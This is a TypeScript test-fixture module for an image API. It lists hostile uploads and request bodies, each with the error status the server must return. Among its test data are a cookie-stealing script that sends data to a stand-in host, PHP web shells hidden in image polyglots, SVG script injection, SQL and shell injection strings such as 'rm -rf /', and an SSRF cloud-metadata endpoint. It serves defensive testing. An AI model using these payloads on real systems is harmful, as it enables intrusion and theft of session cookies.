import { request as httpRequest } from 'node:http';
import {
  corrupted,
  imageFormats,
  makeAvifBomb,
  makeGifBomb,
  makeGifJavaScriptPolyglot,
  makeImage,
  makeJpeg,
  makeJpegBomb,
  makePng,
  makePngBomb,
  makeTiffBomb,
  makeWebpBomb,
  makeZip,
  truncated,
} from './hostileImages.ts';

/**
 * A table of hostile or broken requests for both APIs, each with the 4xx it must get. The
 * tests send every row over real HTTP and also check that the answer is problem+json, that
 * the server keeps answering, and that nothing was written.
 */
export type HostileRequest = {
  category: HostileCategory;
  name: string;
  method: string;
  /** Sent as is (no URL normalisation): `%2e%2e`, `..` and `%00` reach the server. */
  path: string;
  /** Whose credentials go with it: the tenant's admin (default), the platform admin, or none. */
  as?: 'tenant' | 'admin' | 'anonymous';
  headers?: Record<string, string>;
  body?: Buffer | string;
  expect: { status: number; code?: string };
};

export type HostileCategory =
  | 'corrupt image'
  | 'decompression bomb'
  | 'polyglot'
  | 'unsupported file'
  | 'content type'
  | 'multipart structure'
  | 'upload fields'
  | 'malformed JSON'
  | 'wrong type'
  | 'unicode and injection'
  | 'path parameter'
  | 'query parameter'
  | 'credentials'
  | 'header';

/** What the rows refer to: the caller's tenant, one of its images, an id nobody has. */
export type HostileContext = { tenantId: string; imageId: string; missingId: string };

/** The limits the rows assume: set them on the tenant and the API under test. */
export const hostileLimits = {
  /** The tenant's `maxImageBytes`. */
  maxImageBytes: 1024 * 1024,
  /** The write API's `MAX_REQUEST_BYTES`. */
  maxRequestBytes: 8 * 1024 * 1024,
};

const invalid = { status: 400, code: 'validation_failed' };
const unauthenticated = { status: 401, code: 'unauthenticated' };
const forbidden = { status: 403, code: 'forbidden' };
const notFound = { status: 404, code: 'not_found' };
const tooLarge = { status: 413, code: 'payload_too_large' };
const unsupported = { status: 415, code: 'unsupported_media_type' };
const unprocessable = { status: 422, code: 'unprocessable' };

export type MultipartPart = {
  name: string;
  filename?: string;
  type?: string;
  data: Buffer | string;
  /** Replaces the part's header lines entirely. */
  rawHeaders?: string;
};

/** A multipart/form-data body written by hand, so it can be wrong in every way a client can be. */
export function multipart(
  parts: MultipartPart[],
  boundary = 'hostile-7f3a9c',
): { body: Buffer; contentType: string } {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const headers =
      part.rawHeaders ??
      [
        `Content-Disposition: form-data; name="${part.name}"${part.filename === undefined ? '' : `; filename="${part.filename}"`}`,
        ...(part.type ? [`Content-Type: ${part.type}`] : []),
      ].join('\r\n');
    chunks.push(
      Buffer.from(`--${boundary}\r\n${headers}\r\n\r\n`),
      Buffer.from(part.data),
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

const fileParts = (name: string, bytes: Buffer, type = 'image/jpeg'): MultipartPart[] => [
  { name: 'file', filename: name, type, data: bytes },
];

function jsonRequest(value: unknown): Pick<HostileRequest, 'headers' | 'body'> {
  return { headers: { 'content-type': 'application/json' }, body: JSON.stringify(value) };
}

function rawJson(text: string | Buffer): Pick<HostileRequest, 'headers' | 'body'> {
  return { headers: { 'content-type': 'application/json' }, body: text };
}

function multipartRequest(parts: MultipartPart[]): Pick<HostileRequest, 'headers' | 'body'> {
  const { body, contentType } = multipart(parts);
  return { headers: { 'content-type': contentType }, body };
}

/** A file the image check must refuse, with the answer it must get. */
export type HostileFile = {
  category: HostileCategory;
  name: string;
  filename: string;
  bytes: Buffer;
  declaredType: string;
  expect: { status: number; code?: string };
};

/** Broken, hostile and unsupported files: the same set goes to upload and to search by image. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  const add = (
    category: HostileCategory,
    name: string,
    bytes: Buffer,
    expect: HostileFile['expect'],
    declaredType = 'image/jpeg',
    filename = 'upload.jpg',
  ) => files.push({ category, name, filename, bytes, declaredType, expect });

  for (const format of imageFormats) {
    const image = await makeImage(format, 96, 72, 5);
    const type = `image/${format}`;
    const file = `picture.${format}`;
    for (const fraction of [0.25, 0.5, 0.9, 0.99])
      add(
        'corrupt image',
        `${format} cut to ${fraction * 100}%`,
        truncated(image, fraction),
        unprocessable,
        type,
        file,
      );
    add(
      'corrupt image',
      `${format} header only (16 bytes)`,
      image.subarray(0, 16),
      unprocessable,
      type,
      file,
    );
    add('corrupt image', `${format} corrupted after the header`, corrupted(image), unprocessable, type, file);
  }
  const signatures: Record<string, Buffer> = {
    jpeg: Buffer.from([0xff, 0xd8, 0xff]),
    png: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    webp: Buffer.from('RIFF\x10\x00\x00\x00WEBP', 'latin1'),
    gif: Buffer.from('GIF89a', 'latin1'),
    avif: Buffer.from('\x00\x00\x00\x18ftypavif', 'latin1'),
    tiff: Buffer.from('II*\x00', 'latin1'),
  };
  for (const [format, signature] of Object.entries(signatures))
    add('corrupt image', `${format} signature and nothing else`, signature, unprocessable, `image/${format}`);
  add('corrupt image', 'an empty file', Buffer.alloc(0), invalid);

  add(
    'decompression bomb',
    'PNG declaring 50 000 × 50 000',
    makePngBomb(50_000, 50_000),
    unprocessable,
    'image/png',
  );
  add(
    'decompression bomb',
    'PNG declaring 100 000 × 100 000',
    makePngBomb(100_000, 100_000),
    unprocessable,
    'image/png',
  );
  add(
    'decompression bomb',
    'PNG declaring 1 × 2³¹−1',
    makePngBomb(1, 2 ** 31 - 1),
    unprocessable,
    'image/png',
  );
  add(
    'decompression bomb',
    'WebP declaring 16 383 × 16 383',
    await makeWebpBomb(),
    unprocessable,
    'image/webp',
  );
  add('decompression bomb', 'GIF declaring 65 535 × 65 535', await makeGifBomb(), unprocessable, 'image/gif');
  add('decompression bomb', 'JPEG declaring 65 500 × 65 500', await makeJpegBomb(), unprocessable);
  add(
    'decompression bomb',
    'TIFF declaring 65 535 × 65 535',
    await makeTiffBomb(),
    unprocessable,
    'image/tiff',
  );
  add(
    'decompression bomb',
    'AVIF declaring 100 000 × 100 000',
    await makeAvifBomb(),
    unprocessable,
    'image/avif',
  );

  const jpeg = await makeJpeg(64, 48, 9);
  const png = await makePng(24, 24);
  const gif = await makeImage('gif', 24, 24);
  const html = '<html><body><script>fetch("//evil.test/?c="+document.cookie)</script></body></html>';
  const webShell = makeZip('shell.php', '<?php system($_GET["c"]); ?>');
  add(
    'polyglot',
    'JPEG signature followed by HTML',
    Buffer.concat([jpeg.subarray(0, 4), Buffer.from(html)]),
    unprocessable,
  );
  add(
    'polyglot',
    'JPEG/JavaScript (ÿØÿà/* … */=alert(1);)',
    Buffer.from('\xff\xd8\xff\xe0/*\x00\x10JFIF*/=alert(document.domain);//', 'latin1'),
    unprocessable,
  );
  add('polyglot', 'JPEG with a ZIP web shell appended', Buffer.concat([jpeg, webShell]), unprocessable);
  add(
    'polyglot',
    'PNG with a ZIP web shell appended',
    Buffer.concat([png, webShell]),
    unprocessable,
    'image/png',
  );
  add(
    'polyglot',
    'GIF with a JAR appended (GIFAR)',
    Buffer.concat([gif, makeZip('META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\nMain-Class: Evil\n')]),
    unprocessable,
    'image/gif',
  );
  add(
    'polyglot',
    'GIF that is also JavaScript',
    await makeGifJavaScriptPolyglot(),
    unprocessable,
    'image/gif',
  );
  add(
    'polyglot',
    'PNG with a script after IEND',
    Buffer.concat([png, Buffer.from('<script>alert(document.domain)</script>')]),
    unprocessable,
    'image/png',
  );
  // Ends in FF D9 like a JPEG should, so only walking the JPEG to its real end finds the ZIP.
  add(
    'polyglot',
    'JPEG with a ZIP appended that ends in FF D9',
    Buffer.concat([jpeg, webShell, Buffer.from([0xff, 0xd9])]),
    unprocessable,
  );
  add('polyglot', 'HTML followed by a JPEG', Buffer.concat([Buffer.from(html), jpeg]), unsupported);
  add(
    'polyglot',
    'PDF header followed by a JPEG',
    Buffer.concat([Buffer.from('%PDF-1.4\n'), jpeg]),
    unsupported,
  );
  add(
    'polyglot',
    'SVG with an onload script',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'),
    unsupported,
    'image/svg+xml',
    'vector.svg',
  );
  add(
    'polyglot',
    'PHP script named .png and declared image/png',
    Buffer.from('<?php echo shell_exec($_GET["c"]); ?>'),
    unsupported,
    'image/png',
    'avatar.png',
  );

  const unsupportedFiles: [string, Buffer][] = [
    ['plain text', Buffer.from('just some text, not an image')],
    ['an ELF executable', Buffer.from('\x7fELF\x02\x01\x01\x00'.padEnd(64, '\x00'), 'latin1')],
    ['a ZIP archive', webShell],
    ['a BMP', Buffer.from('BM6\x00\x00\x00\x00\x00\x00\x006\x00\x00\x00'.padEnd(64, '\x00'), 'latin1')],
    ['an ICO', Buffer.from('\x00\x00\x01\x00\x01\x00\x10\x10'.padEnd(64, '\x00'), 'latin1')],
    [
      'a HEIC (ftyp heic)',
      Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic'.padEnd(64, '\x00'), 'latin1'),
    ],
    ['a JPEG XL codestream', Buffer.from('\xff\x0a\xfa\x7f'.padEnd(64, '\x00'), 'latin1')],
    ['a Photoshop file', Buffer.from('8BPS\x00\x01'.padEnd(64, '\x00'), 'latin1')],
    ['a RIFF WAVE file', Buffer.from('RIFF\x24\x00\x00\x00WAVEfmt '.padEnd(64, '\x00'), 'latin1')],
    ['a single 0xFF byte', Buffer.from([0xff])],
  ];
  for (const [name, bytes] of unsupportedFiles) add('unsupported file', name, bytes, unsupported);
  return files;
}

/** Every hostile row for the write API. */
export async function writeApiHostileRequests(ctx: HostileContext): Promise<HostileRequest[]> {
  const { tenantId, imageId, missingId } = ctx;
  const rows: HostileRequest[] = [];
  const add = (row: HostileRequest) => rows.push(row);
  const jpeg = await makeJpeg(64, 48, 21);
  const upload = (
    category: HostileCategory,
    name: string,
    init: Pick<HostileRequest, 'headers' | 'body'>,
    expect: HostileRequest['expect'],
  ) => add({ category, name: `upload: ${name}`, method: 'POST', path: '/v1/images', ...init, expect });

  for (const file of await hostileFiles())
    upload(
      file.category,
      file.name,
      multipartRequest(fileParts(file.filename, file.bytes, file.declaredType)),
      file.expect,
    );
  // One good file and one broken one: the whole request is refused, the good one not stored either.
  upload(
    'corrupt image',
    'a good JPEG and a truncated one',
    multipartRequest([...fileParts('good.jpg', jpeg), ...fileParts('bad.jpg', truncated(jpeg, 0.5))]),
    unprocessable,
  );

  // Content types.
  const form = multipart(fileParts('a.jpg', jpeg));
  upload(
    'content type',
    'JSON instead of multipart',
    jsonRequest({ file: jpeg.toString('base64') }),
    unsupported,
  );
  upload(
    'content type',
    'text/plain',
    { headers: { 'content-type': 'text/plain' }, body: 'hello' },
    unsupported,
  );
  upload('content type', 'no content type, raw JPEG bytes', { body: jpeg }, unsupported);
  upload(
    'content type',
    'image/jpeg, raw bytes',
    { headers: { 'content-type': 'image/jpeg' }, body: jpeg },
    unsupported,
  );
  upload(
    'content type',
    'application/x-www-form-urlencoded',
    { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'file=%FF%D8%FF' },
    unsupported,
  );
  upload(
    'content type',
    'multipart/mixed',
    { headers: { 'content-type': 'multipart/mixed; boundary=hostile-7f3a9c' }, body: form.body },
    unsupported,
  );
  upload(
    'content type',
    'multipart/form-data without a boundary',
    { headers: { 'content-type': 'multipart/form-data' }, body: form.body },
    invalid,
  );
  upload(
    'content type',
    'multipart/form-data with an empty boundary',
    { headers: { 'content-type': 'multipart/form-data; boundary=' }, body: form.body },
    invalid,
  );
  upload(
    'content type',
    'a boundary that is not the one in the body',
    { headers: { 'content-type': 'multipart/form-data; boundary=something-else' }, body: form.body },
    invalid,
  );
  upload(
    'content type',
    'multipart with an empty body',
    { headers: { 'content-type': form.contentType }, body: '' },
    invalid,
  );
  const patchImage = (
    category: HostileCategory,
    name: string,
    init: Pick<HostileRequest, 'headers' | 'body'>,
    expect: HostileRequest['expect'],
  ) =>
    add({
      category,
      name: `retag: ${name}`,
      method: 'PATCH',
      path: `/v1/images/${imageId}`,
      ...init,
      expect,
    });
  patchImage(
    'content type',
    'multipart instead of JSON',
    multipartRequest([{ name: 'tags', data: '["a"]' }]),
    unsupported,
  );
  patchImage(
    'content type',
    'JSON sent as text/plain',
    { headers: { 'content-type': 'text/plain' }, body: '{"tags":["a"]}' },
    unsupported,
  );
  patchImage('content type', 'JSON with no content type', { body: '{"tags":["a"]}' }, unsupported);
  patchImage(
    'content type',
    'application/jsonp',
    { headers: { 'content-type': 'application/jsonp' }, body: '{"tags":["a"]}' },
    unsupported,
  );
  add({
    category: 'content type',
    name: 'provision a tenant: form-urlencoded',
    method: 'POST',
    path: '/v1/tenants',
    as: 'admin',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'slug=formed&name=Formed',
    expect: unsupported,
  });
  add({
    category: 'content type',
    name: 'sign in: form-urlencoded',
    method: 'POST',
    path: '/v1/auth/token',
    as: 'anonymous',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'grant_type=password&email=a%40b.test&password=x',
    expect: unsupported,
  });
  add({
    category: 'content type',
    name: 'create a user: text/xml',
    method: 'POST',
    path: '/v1/users',
    as: 'admin',
    headers: { 'content-type': 'text/xml' },
    body: '<user><email>x@y.test</email></user>',
    expect: unsupported,
  });
  add({
    category: 'content type',
    name: 'create an API key: multipart',
    method: 'POST',
    path: `/v1/tenants/${tenantId}/api-keys`,
    ...multipartRequest([{ name: 'scopes', data: 'images:read' }]),
    expect: unsupported,
  });

  // Multipart structure and size.
  const withoutClosing = form.body.subarray(0, form.body.length - 40);
  upload(
    'multipart structure',
    'cut off before the closing boundary',
    { headers: { 'content-type': form.contentType }, body: withoutClosing },
    invalid,
  );
  upload(
    'multipart structure',
    'a part without Content-Disposition',
    multipartRequest([{ name: 'file', data: jpeg, rawHeaders: 'Content-Type: image/jpeg' }]),
    invalid,
  );
  upload(
    'multipart structure',
    'only a text field, no file',
    multipartRequest([{ name: 'tags', data: 'a,b' }]),
    invalid,
  );
  upload(
    'multipart structure',
    'a file over the per-image limit',
    multipartRequest(fileParts('big.jpg', Buffer.concat([jpeg, Buffer.alloc(hostileLimits.maxImageBytes)]))),
    tooLarge,
  );
  upload(
    'multipart structure',
    'a body over the request limit',
    multipartRequest([
      ...Array.from({ length: 9 }, (_, i) =>
        fileParts(`${i}.jpg`, Buffer.alloc(hostileLimits.maxImageBytes - 1024, i)),
      ).flat(),
    ]),
    tooLarge,
  );
  upload(
    'multipart structure',
    '33 files (32 allowed)',
    multipartRequest(Array.from({ length: 33 }, (_, i) => fileParts(`${i}.jpg`, jpeg)).flat()),
    tooLarge,
  );
  upload(
    'multipart structure',
    '17 text fields (16 allowed)',
    multipartRequest([
      ...fileParts('a.jpg', jpeg),
      ...Array.from({ length: 17 }, (_, i) => ({ name: `f${i}`, data: 'x' })),
    ]),
    tooLarge,
  );
  upload(
    'multipart structure',
    '5 000 tiny file parts',
    multipartRequest(Array.from({ length: 5000 }, (_, i) => fileParts(`${i}.jpg`, Buffer.from('x'))).flat()),
    tooLarge,
  );
  upload(
    'multipart structure',
    '5 000 empty text fields',
    multipartRequest(Array.from({ length: 5000 }, () => ({ name: 'tags', data: '' }))),
    tooLarge,
  );
  upload(
    'multipart structure',
    'a 20 KiB text field',
    multipartRequest([...fileParts('a.jpg', jpeg), { name: 'tags', data: 'a,'.repeat(10_240) }]),
    tooLarge,
  );
  upload(
    'multipart structure',
    'a part header line of 100 KiB',
    multipartRequest([
      {
        name: 'file',
        data: jpeg,
        rawHeaders: `Content-Disposition: form-data; name="file"; filename="${'a'.repeat(100 * 1024)}.jpg"`,
      },
    ]),
    invalid,
  );
  upload(
    'multipart structure',
    'a NUL in a file name (not a valid header)',
    multipartRequest(fileParts('evil\u0000.php.jpg', jpeg)),
    invalid,
  );
  upload(
    'multipart structure',
    'an empty file part',
    multipartRequest(fileParts('empty.jpg', Buffer.alloc(0))),
    invalid,
  );

  // Upload fields with a good image.
  const withFields = (name: string, fields: Record<string, string>, expect = invalid) =>
    upload(
      'upload fields',
      name,
      multipartRequest([
        ...fileParts('a.jpg', jpeg),
        ...Object.entries(fields).map(([n, data]) => ({ name: n, data })),
      ]),
      expect,
    );
  withFields('tags as JSON holding a number', { tags: '["a", 3]' });
  withFields('tags as JSON holding an object', { tags: '["a", {"b": 1}]' });
  withFields('tags as unterminated JSON', { tags: '["a",' });
  withFields('33 tags (32 allowed)', { tags: Array.from({ length: 33 }, (_, i) => `t${i}`).join(',') });
  withFields('a 65-character tag', { tags: 'x'.repeat(65) });
  withFields('an empty tag in JSON', { tags: '[""]' });
  withFields('tags nested 3 000 deep', { tags: '['.repeat(3000) + ']'.repeat(3000) });
  withFields('attributes that are not JSON', { attributes: 'camera=x100' });
  withFields('attributes as an array', { attributes: '["a"]' });
  withFields('attributes with a number value', { attributes: '{"iso": 200}' });
  withFields('attributes with an object value', { attributes: '{"a": {"b": "c"}}' });
  withFields('attributes with an empty key', { attributes: '{"": "x"}' });
  withFields('a 65-character attribute key', { attributes: JSON.stringify({ ['k'.repeat(65)]: 'v' }) });
  withFields('a 257-character attribute value', { attributes: JSON.stringify({ k: 'v'.repeat(257) }) });
  withFields('33 attributes (32 allowed)', {
    attributes: JSON.stringify(Object.fromEntries(Array.from({ length: 33 }, (_, i) => [`k${i}`, 'v']))),
  });
  withFields('an unknown field tenantId', { tenantId: missingId });
  withFields('an unknown field status', { status: 'indexed' });
  withFields('a tag with a NUL character', { tags: 'ok,bad\u0000tag' });
  withFields('an attribute value with an escaped NUL', { attributes: '{"camera": "x\\u0000y"}' });
  withFields('an attribute key with an escaped NUL', { attributes: '{"ca\\u0000mera": "x"}' });
  withFields('a __proto__ attribute key', { attributes: '{"__proto__": "x"}' });
  withFields('a prototype attribute key', { attributes: '{"ok": "1", "prototype": "x"}' });
  withFields('a tag with an unpaired surrogate', { tags: '["\\ud800"]' });
  withFields('a tag of 33 emoji (66 UTF-16 units)', { tags: '😀'.repeat(33) });

  // Malformed JSON.
  const malformed: [string, string | Buffer][] = [
    ['truncated', '{"tags": ["a"'],
    ['a trailing comma', '{"tags": ["a",],}'],
    ['single quotes', "{'tags': ['a']}"],
    ['unquoted keys', '{tags: ["a"]}'],
    ['a comment', '{"tags": ["a"] // note\n}'],
    ['a NaN literal', '{"tags": NaN}'],
    ['an empty body', ''],
    ['null', 'null'],
    ['an array', '[{"tags": ["a"]}]'],
    ['a bare string', '"tags"'],
    [
      'invalid UTF-8 bytes',
      Buffer.from([0x7b, 0x22, 0x74, 0x61, 0x67, 0x73, 0x22, 0x3a, 0x5b, 0xff, 0xfe, 0x5d, 0x7d]),
    ],
    ['nested 100 000 deep', '{"tags":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}'],
    ['a number too large for a double', '{"tags": 1e400}'],
    ['a duplicate key that makes it invalid', '{"tags": ["a"], "tags": 7}'],
  ];
  for (const [name, text] of malformed) patchImage('malformed JSON', name, rawJson(text), invalid);
  patchImage(
    'malformed JSON',
    'a 9 MiB body',
    rawJson(`{"tags": ["${'a'.repeat(hostileLimits.maxRequestBytes)}"]}`),
    tooLarge,
  );
  add({
    category: 'malformed JSON',
    name: 'provision a tenant: truncated',
    method: 'POST',
    path: '/v1/tenants',
    as: 'admin',
    ...rawJson('{"slug": '),
    expect: invalid,
  });
  add({
    category: 'malformed JSON',
    name: 'sign in: a 64 KiB body (16 KiB allowed before sign-in)',
    method: 'POST',
    path: '/v1/auth/token',
    as: 'anonymous',
    ...rawJson(`{"grant_type":"password","email":"a@b.test","password":"${'p'.repeat(64 * 1024)}"}`),
    expect: tooLarge,
  });
  add({
    category: 'malformed JSON',
    name: 'sign in: truncated',
    method: 'POST',
    path: '/v1/auth/token',
    as: 'anonymous',
    ...rawJson('{"grant_type":"password","email":'),
    expect: invalid,
  });
  add({
    category: 'malformed JSON',
    name: 'create an API key: trailing comma',
    method: 'POST',
    path: `/v1/tenants/${tenantId}/api-keys`,
    ...rawJson('{"scopes": ["images:read"],}'),
    expect: invalid,
  });

  // Wrong types, unknown fields, out-of-range values: every field of every command.
  const bodies = (
    name: string,
    method: string,
    path: string,
    as: HostileRequest['as'],
    cases: [string, unknown, HostileRequest['expect']?][],
  ) => {
    for (const [label, value, expect] of cases)
      add({
        category: 'wrong type',
        name: `${name}: ${label}`,
        method,
        path,
        as,
        ...jsonRequest(value),
        expect: expect ?? invalid,
      });
  };
  bodies('retag', 'PATCH', `/v1/images/${imageId}`, 'tenant', [
    ['tags as a string', { tags: 'a,b' }],
    ['tags as a number', { tags: 1 }],
    ['tags as a boolean', { tags: true }],
    ['tags as an object', { tags: {} }],
    ['tags as null', { tags: null }],
    ['a number tag', { tags: [1] }],
    ['a null tag', { tags: [null] }],
    ['a nested tag list', { tags: [['a']] }],
    ['a blank tag', { tags: ['   '] }],
    ['attributes as an array', { attributes: [] }],
    ['attributes as a string', { attributes: 'x' }],
    ['a number attribute', { attributes: { a: 1 } }],
    ['a null attribute', { attributes: { a: null } }],
    ['an object attribute', { attributes: { a: { b: 'c' } } }],
    ['an empty attribute key', { attributes: { '': 'x' } }],
    ['neither tags nor attributes', {}],
    ['an unknown field status', { tags: ['a'], status: 'deleted' }],
    ['an unknown field tenantId', { tags: ['a'], tenantId: missingId }],
    ['an unknown field version', { tags: ['a'], version: 0 }],
    ['a __proto__ field', JSON.parse('{"__proto__": {"tags": ["a"]}}')],
    ['a __proto__ attribute key', JSON.parse('{"attributes": {"__proto__": "x"}}')],
    ['a constructor attribute key', { attributes: { constructor: 'x' } }],
  ]);
  bodies('provision a tenant', 'POST', '/v1/tenants', 'admin', [
    ['slug as a number', { slug: 1, name: 'x' }],
    ['slug as null', { slug: null, name: 'x' }],
    ['an upper-case slug', { slug: 'ACME', name: 'x' }],
    ['a one-character slug', { slug: 'a', name: 'x' }],
    ['a 64-character slug', { slug: 'a'.repeat(64), name: 'x' }],
    ['a slug with path traversal', { slug: '../etc', name: 'x' }],
    ['a slug with SQL', { slug: "a'; drop schema write cascade; --", name: 'x' }],
    ['a slug with an accent', { slug: 'tënant', name: 'x' }],
    ['a slug starting with a dash', { slug: '-acme', name: 'x' }],
    ['an empty name', { slug: 'emptyname', name: '' }],
    ['a blank name', { slug: 'blankname', name: '   ' }],
    ['a 201-character name', { slug: 'longname', name: 'n'.repeat(201) }],
    ['name as a number', { slug: 'numbername', name: 1 }],
    ['an unknown plan', { slug: 'platinum', name: 'x', plan: 'platinum' }],
    ['plan as null', { slug: 'nullplan', name: 'x', plan: null }],
    ['empty limits', { slug: 'emptylimits', name: 'x', limits: {} }],
    [
      'negative limits',
      {
        slug: 'neglimits',
        name: 'x',
        limits: { maxImages: -1, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1 },
      },
    ],
    [
      'fractional limits',
      {
        slug: 'fraclimits',
        name: 'x',
        limits: { maxImages: 1.5, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1 },
      },
    ],
    [
      'limits as strings',
      {
        slug: 'strlimits',
        name: 'x',
        limits: { maxImages: '10', maxBytes: '1', maxImageBytes: '1', requestsPerMinute: '1' },
      },
    ],
    [
      'limits with an unknown field',
      {
        slug: 'morelimits',
        name: 'x',
        limits: { maxImages: 1, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1, admin: true },
      },
    ],
    ['an unknown field id', { slug: 'chosenid', name: 'x', id: missingId }],
    ['an unknown field status', { slug: 'chosenstatus', name: 'x', status: 'active' }],
    ['an array body', [{ slug: 'arraybody', name: 'x' }]],
  ]);
  bodies('change a tenant', 'PATCH', `/v1/tenants/${tenantId}`, 'admin', [
    ['status deleted', { status: 'deleted' }],
    ['suspended without a reason', { status: 'suspended' }],
    [
      'limits without a plan',
      { limits: { maxImages: 1, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1 } },
    ],
    ['an empty reason', { status: 'suspended', reason: '' }],
    ['a 501-character reason', { status: 'suspended', reason: 'r'.repeat(501) }],
    ['name as a number', { name: 7 }],
    ['plan as a number', { plan: 1 }],
    ['an unknown field slug', { slug: 'renamed' }],
  ]);
  const storage = {
    endpoint: 'https://s3.example.test',
    bucket: 'hostile-bucket',
    accessKeyId: 'AKIAEXAMPLE',
    secretAccessKey: 'secret-value',
  };
  bodies('configure storage', 'PUT', `/v1/tenants/${tenantId}/storage`, 'admin', [
    ['a file: endpoint', { ...storage, endpoint: 'file:///etc/passwd' }],
    ['a javascript: endpoint', { ...storage, endpoint: 'javascript:alert(1)' }],
    ['an endpoint that is not a URL', { ...storage, endpoint: 'not a url' }],
    ['a bucket with path traversal', { ...storage, bucket: '../../etc' }],
    ['an upper-case bucket', { ...storage, bucket: 'Bucket' }],
    ['a prefix with a shell command', { ...storage, prefix: 'x;rm -rf /' }],
    ['a prefix climbing into another tenant', { ...storage, prefix: '../../other-tenant/' }],
    ['a prefix with a "." segment', { ...storage, prefix: 'a/./b' }],
    ['a prefix starting with "/"', { ...storage, prefix: '/abs' }],
    ['an endpoint not on the allow-list', { ...storage, endpoint: 'http://169.254.169.254' }],
    ['an internal endpoint', { ...storage, endpoint: 'http://127.0.0.1:15432' }],
    ['an empty access key id', { ...storage, accessKeyId: '' }],
    ['a 513-character secret', { ...storage, secretAccessKey: 's'.repeat(513) }],
    ['an empty region', { ...storage, region: '' }],
    ['an unknown field tenantId', { ...storage, tenantId: missingId }],
    ['nothing', {}],
  ]);
  const user = {
    email: 'new@hostile.test',
    password: 'a long enough password',
    role: 'tenant_user',
    tenantId,
  };
  bodies('create a user', 'POST', '/v1/users', 'admin', [
    ['an e-mail that is not one', { ...user, email: 'not-an-email' }],
    ['e-mail as a number', { ...user, email: 1 }],
    ['an e-mail without a domain', { ...user, email: 'a@b' }],
    ['a 321-character e-mail', { ...user, email: `${'a'.repeat(310)}@hostile.test` }],
    ['an 11-character password', { ...user, password: 'short pass!' }],
    ['a 1 025-character password', { ...user, password: 'p'.repeat(1025) }],
    ['password as a number', { ...user, password: 123456789012345 }],
    ['an unknown role', { ...user, role: 'root' }],
    ['role as null', { ...user, role: null }],
    ['a tenantId that is not a UUID', { ...user, tenantId: '../tenant' }],
    ['a platform admin with a tenant', { ...user, role: 'platform_admin' }],
    ['a tenant user without a tenant', { ...user, tenantId: null }],
    ['an unknown field scopes', { ...user, scopes: ['platform:admin'] }],
    ['a tenant nobody has', { ...user, tenantId: missingId }, notFound],
  ]);
  bodies('create an API key', 'POST', `/v1/tenants/${tenantId}/api-keys`, 'tenant', [
    ['no scopes', { scopes: [] }],
    ['the platform:admin scope', { scopes: ['platform:admin'] }],
    ['the tenants:write scope', { scopes: ['tenants:write'] }],
    ['the tenant:admin scope', { scopes: ['tenant:admin'] }],
    ['scopes as a string', { scopes: 'images:read' }],
    ['a number scope', { scopes: [1] }],
    // A scope listed twice is collapsed (not an error); a list far longer than the scopes that exist is.
    ['thirteen scopes (three exist)', { scopes: new Array<string>(13).fill('search') }],
    ['expiresAt in words', { scopes: ['search'], expiresAt: 'tomorrow' }],
    ['expiresAt in the past', { scopes: ['search'], expiresAt: '2001-01-01T00:00:00Z' }],
    ['expiresAt as a number', { scopes: ['search'], expiresAt: 4102444800000 }],
    ['expiresAt on the 45th of the 13th month', { scopes: ['search'], expiresAt: '2999-13-45T00:00:00Z' }],
    ['a 201-character name', { scopes: ['search'], name: 'n'.repeat(201) }],
    ['name as a number', { scopes: ['search'], name: 1 }],
    ['an unknown field tenantId', { scopes: ['search'], tenantId: missingId }],
    ['a chosen secret', { scopes: ['search'], secret: 'dl_aaaaaaaa_chosen' }],
    ['a chosen prefix', { scopes: ['search'], prefix: 'aaaaaaaa' }],
  ]);
  bodies('sign in', 'POST', '/v1/auth/token', 'anonymous', [
    ['nothing', {}],
    ['grant_type client_credentials', { grant_type: 'client_credentials', client_id: 'x' }],
    ['grant_type refresh_token', { grant_type: 'refresh_token', refresh_token: 'x' }],
    ['grant_type as a number', { grant_type: 1 }],
    [
      'a password grant with an api_key',
      { grant_type: 'password', email: 'a@b.test', password: 'x', api_key: 'k' },
    ],
    [
      'a password grant asking for a role',
      { grant_type: 'password', email: 'a@b.test', password: 'x', role: 'platform_admin' },
    ],
    ['an e-mail that is not one', { grant_type: 'password', email: 'admin', password: 'x' }],
    ['an empty password', { grant_type: 'password', email: 'a@b.test', password: '' }],
    ['a 1 025-character password', { grant_type: 'password', email: 'a@b.test', password: 'p'.repeat(1025) }],
    ['an empty api_key', { grant_type: 'api_key', api_key: '' }],
    ['a 257-character api_key', { grant_type: 'api_key', api_key: 'k'.repeat(257) }],
    ['api_key as a number', { grant_type: 'api_key', api_key: 1 }],
  ]);
  bodies('refresh', 'POST', '/v1/auth/refresh', 'anonymous', [
    ['nothing', {}],
    ['refresh_token as a number', { refresh_token: 1 }],
    ['an empty refresh_token', { refresh_token: '' }],
    ['a 257-character refresh_token', { refresh_token: 'r'.repeat(257) }],
    ['an unknown field user', { refresh_token: 'x', user: 'admin' }],
    ['a refresh_token nobody holds', { refresh_token: 'not-a-real-refresh-token' }, unauthenticated],
  ]);
  bodies('log out', 'POST', '/v1/auth/logout', 'anonymous', [
    ['nothing', {}],
    ['refresh_token as a list', { refresh_token: [] }],
  ]);

  // Text PostgreSQL cannot store (U+0000, unpaired surrogates), and text too long once counted right.
  const text = (name: string, method: string, path: string, as: HostileRequest['as'], value: unknown) =>
    add({
      category: 'unicode and injection',
      name,
      method,
      path,
      as,
      ...jsonRequest(value),
      expect: invalid,
    });
  text('retag: a NUL in a tag', 'PATCH', `/v1/images/${imageId}`, 'tenant', { tags: ['a\u0000b'] });
  text('retag: a NUL in an attribute value', 'PATCH', `/v1/images/${imageId}`, 'tenant', {
    attributes: { k: 'v\u0000' },
  });
